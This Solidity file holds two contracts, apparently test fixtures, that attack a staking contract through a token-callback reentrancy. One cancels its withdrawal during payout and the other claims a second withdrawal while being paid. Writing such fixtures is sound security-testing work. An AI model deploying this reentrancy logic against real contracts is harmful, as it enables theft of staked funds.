interface Meadow {
    function stake(uint256 amount) external;
    function ask(uint256 amount) external;
    function leave() external returns (uint256);
    function stay() external;
    function move(address to, uint256 amount) external;
}

/// Takes its request back while it is being paid, and passes the stake on.
contract Turncoat {
    Token private immutable token;
    Meadow private immutable field;
    uint256 private amount;
    bool private waits;

    constructor(Token coin, Meadow target) {
        (token, field) = (coin, target);
    }

    function enter() external {
        amount = token.balanceOf(address(this));
        token.approve(address(field), amount);
        field.stake(amount);
        field.ask(amount);
    }

    function go() external {
        token.tellMe(true);
        waits = true;
        field.leave();
        token.tellMe(false);
        field.move(msg.sender, amount);
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (!waits) return;
        waits = false;
        field.stay();
    }
}

/// Has a half of its stake asked for. Leaves again while it is being paid, and asks for the other half, which is counted as paid.
contract Patient {
    Token private immutable token;
    Meadow private immutable field;
    uint256 private half;
    bool private waits;

    constructor(Token coin, Meadow target) {
        (token, field) = (coin, target);
    }

    function enter() external {
        half = token.balanceOf(address(this)) / 2;
        token.approve(address(field), 2 * half);
        field.stake(2 * half);
        field.ask(half);
    }

    function go() external {
        token.tellMe(true);
        waits = true;
        field.leave();
        token.tellMe(false);
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (!waits) return;
        waits = false;
        field.leave();
        field.ask(half);
    }
}
